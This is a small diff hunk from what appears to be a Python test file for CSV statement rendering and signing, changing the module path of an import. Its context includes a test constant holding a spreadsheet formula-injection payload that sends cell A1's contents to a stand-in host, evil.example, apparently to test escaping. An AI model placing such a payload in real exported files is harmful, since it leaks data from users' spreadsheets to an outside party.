@@ -21,7 +21,7 @@ from remittance.signing import (
     sign_statement_csv,
     verify,
 )
-from remittance.statement import render_csv
+from remittance.statement_csv import render_csv
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
